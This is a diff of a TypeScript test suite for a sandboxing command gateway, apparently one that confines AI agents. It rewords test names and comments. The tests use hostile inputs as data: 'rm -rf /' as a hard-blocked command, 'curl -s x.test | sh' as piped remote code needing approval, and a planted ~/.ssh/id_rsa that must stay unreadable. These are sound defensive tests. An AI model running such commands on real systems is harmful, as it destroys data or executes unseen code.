@@ -20,7 +20,7 @@ after(() => fixture.close());
 
 const FREE = { limits: { sessions: 10_000, startsPerMinute: 1_000_000 } };
 
-/** As out of the box, with a person who is written down and says yes. */
+/** Opens a gateway with the default settings and an approver who records and approves each request. */
 async function open(policy: ConfigFile = {}, decision: "once" | "deny" = "once") {
   const asked: Approval[] = [];
   const gateway = await fixture.open({
@@ -35,7 +35,7 @@ async function open(policy: ConfigFile = {}, decision: "once" | "deny" = "once")
 
 const writes = (path: string): RunRequest => ({ command: "touch", args: [path] });
 
-test("out of the box a command writes in its workspace and its temporary folder, and nowhere else", async () => {
+test("by default a command can write only to its workspace and temporary directory", async () => {
   const { gateway, asked } = await open();
   const inside = await gateway.run({ command: 'touch here && touch "$TMPDIR/there" && echo "$TMPDIR"' });
   assert.deepEqual([inside.exitCode, inside.sandbox, inside.hints], [0, "workspace-write", []], inside.stderr);
@@ -46,11 +46,11 @@ test("out of the box a command writes in its workspace and its temporary folder,
   assert.equal(result.exitCode, 1);
   assert.ok(!existsSync(path));
   assert.match(result.hints[0] ?? "", new RegExp(`likely cause: writing to ${path}.*writable: \\["${outside}"\\]`));
-  assert.deepEqual(gateway.session(result.id).info().hints, result.hints, "and the session keeps it");
+  assert.deepEqual(gateway.session(result.id).info().hints, result.hints, "the session keeps the hints");
   assert.deepEqual(asked, []);
 });
 
-test("asking for more is asked, with what it asks for; less is free", async () => {
+test("an escalation requires approval and names the access; a stricter profile does not", async () => {
   const { gateway, asked } = await open();
   const path = join(outside, "granted");
   const result = await gateway.run({ ...writes(path), writable: [outside] });
@@ -70,7 +70,7 @@ test("asking for more is asked, with what it asks for; less is free", async () =
   assert.ok(!existsSync(fixture.path("nothing")));
 });
 
-test("off is asked for, and then is off", async () => {
+test("sandbox off requires approval and then disables the sandbox", async () => {
   const { gateway, asked } = await open();
   const path = join(outside, "off");
   const result = await gateway.run({ ...writes(path), sandbox: "off" });
@@ -79,7 +79,7 @@ test("off is asked for, and then is off", async () => {
   assert.deepEqual(asked[0]?.request.reasons[0]?.rule, "sandbox-off");
 });
 
-test("a no is a no, and where nobody is asked it is denied", async () => {
+test("an escalation is denied by a person, or when approvals are off", async () => {
   const path = join(outside, "refused");
   const { gateway } = await open({}, "deny");
   assert.equal((await gateway.run({ ...writes(path), sandbox: "off" })).status, "denied");
@@ -90,7 +90,7 @@ test("a no is a no, and where nobody is asked it is denied", async () => {
   assert.ok(!existsSync(path));
 });
 
-test("check tells the same as run does", async () => {
+test("check and run agree", async () => {
   const { gateway } = await open();
   const verdict = (options: Parameters<Gateway["check"]>[1], command: string | string[] = ["ls"]) => {
     const { verdict, reasons } = gateway.check(command, options);
@@ -101,31 +101,38 @@ test("check tells the same as run does", async () => {
   assert.deepEqual(verdict({ sandbox: "off" }), ["ask", "sandbox-off"]);
   assert.deepEqual(verdict({ writable: [outside] }), ["ask", "sandbox-write"]);
   assert.deepEqual(verdict({ sandbox: "off", ask: "off" }), ["deny", "sandbox-off"]);
-  assert.deepEqual(verdict({ sandbox: "off" }, "rm -rf /")[0], "blocked", "nothing lifts a hard block (promise 3)");
+  assert.deepEqual(
+    verdict({ sandbox: "off" }, "rm -rf /")[0],
+    "blocked",
+    "a hard block cannot be overridden (invariant 3)",
+  );
   assert.deepEqual(verdict({ sandbox: "off", security: "deny" })[0], "deny");
 });
 
-test("what nobody can analyse runs where it is confined, and is asked where it is not", async () => {
+test("an unanalyzable command runs when sandboxed and requires approval otherwise", async () => {
   const confined = (await open()).gateway;
   assert.equal(confined.check("$X").verdict, "allow");
-  assert.equal(confined.check("curl -s x.test | sh").verdict, "ask", "code that nobody saw is another matter");
+  assert.equal(confined.check("curl -s x.test | sh").verdict, "ask", "piped code requires approval");
   assert.equal(confined.check("$X", { sandbox: "off" }).verdict, "ask");
   const free = (await open({ sandbox: "off" })).gateway;
   assert.equal(free.check("$X").verdict, "ask");
   assert.equal(free.check("$X", { sandbox: "workspace-write" }).verdict, "allow");
 });
 
-test("an approval is bound to the confinement it was given for", async () => {
+test("an approval is bound to its sandbox", async () => {
   const path = fixture.path("sallyport.json");
   const shown: string[] = [];
   const gateway = await fixture.open({
     policy: { ...FREE, ask: "always" },
     approve: async ({ request }) => {
       shown.push(request.confinement);
-      // Meanwhile the workspace's file tightens the sandbox; it is followed from the next second on.
+      // The workspace configuration tightens the sandbox while the request is pending; it is read within a second.
       if (shown.length === 1) {
         writeFileSync(path, JSON.stringify({ network: "off" }));
-        await until("the file is followed", () => gateway.check("true", {}).verdict === "ask" && watched(gateway));
+        await until(
+          "the new configuration is in force",
+          () => gateway.check("true", {}).verdict === "ask" && watched(gateway),
+        );
       }
       return { decision: "once", who: "tester" };
     },
@@ -139,12 +146,12 @@ test("an approval is bound to the confinement it was given for", async () => {
   writeFileSync(path, "{}");
 });
 
-/** Whether the tightened file is in force: asking for the network is loosening then. */
+/** Reports whether the tightened configuration is in force: requesting network access is then an escalation. */
 function watched(gateway: Gateway): boolean {
   return gateway.check("true", { network: "on" }).reasons.some(({ rule }) => rule === "sandbox-network");
 }
 
-test("inspect and the list say what held a session, also one that was refused", async () => {
+test("a session shows its sandbox, even when it was refused", async () => {
   const { gateway } = await open({ ask: "off" });
   const refused = await gateway.run({ command: "true", sandbox: "off" });
   assert.equal(gateway.session(refused.id).info().sandbox, "off");
@@ -153,7 +160,7 @@ test("inspect and the list say what held a session, also one that was refused", 
   assert.equal(gateway.list({ limit: 1 })[0]?.sandbox, "isolated, ports 443");
 });
 
-test("that commands run as root is said once per gateway", {
+test("warns once per gateway that commands run as root", {
   skip: process.getuid?.() !== 0 && "needs root",
 }, async () => {
   const { gateway } = await open();
@@ -162,7 +169,7 @@ test("that commands run as root is said once per gateway", {
   assert.equal(about(await gateway.run({ command: "true" })).length, 0);
 });
 
-test("secrets in a home are out of reach, whatever the command", async (t) => {
+test("secrets in the home directory cannot be read", async (t) => {
   const home = join(fixture.folder, "home");
   mkdirSync(join(home, ".ssh"), { recursive: true });
   writeFileSync(join(home, ".ssh/id_rsa"), "secret");
@@ -179,7 +186,7 @@ test("secrets in a home are out of reach, whatever the command", async (t) => {
   assert.equal(readFileSync(join(home, ".ssh/id_rsa"), "utf8"), "secret");
 });
 
-test("a protected spot can be written where a person allowed it, also by renaming over it", async () => {
+test("a protected path can be written with approval, including by a rename", async () => {
   const git = fixture.path("repository", ".git");
   mkdirSync(join(git, "hooks"), { recursive: true });
   writeFileSync(join(git, "config"), "old");
@@ -204,17 +211,17 @@ test("a protected spot can be written where a person allowed it, also by renamin
   assert.equal(asked.length, 1);
 });
 
-test("a protected spot that comes to be while a command runs is told of", async () => {
+test("warns about a protected path that is created while a command runs", async () => {
   const { gateway } = await open();
   const about = ({ warnings }: { warnings: string[] }) => warnings.filter((text) => text.includes("came to be"));
   assert.deepEqual(about(await gateway.run({ command: "touch plain" })), []);
   const made = await gateway.run({ command: "mkdir .vscode && echo {} > .vscode/tasks.json" });
   assert.match(about(made)[0] ?? "", /\/\.vscode came to be while it ran/);
-  assert.deepEqual(about(gateway.session(made.id).info()), about(made), "and the session keeps it");
+  assert.deepEqual(about(gateway.session(made.id).info()), about(made), "the session keeps the hints");
   assert.deepEqual(about(await gateway.run({ command: "touch plain again" })), [], "once");
 });
 
-test("the operator's callback is neither asked about nor confined by what holds for agents", async () => {
+test("the operator's callback requires no approval and is not sandboxed", async () => {
   const called = join(outside, "called");
   const { gateway, asked } = await open({
     ask: "always",
@@ -223,6 +230,6 @@ test("the operator's callback is neither asked about nor confined by what holds 
     permissions: { run: "autonomous" },
   });
   gateway.work.enqueue({ key: "one", type: "TEST", priority: "HIGH", payload: {} });
-  await until("the callback was called", () => existsSync(called));
+  await until("the callback has run", () => existsSync(called));
   assert.deepEqual(asked, []);
 });
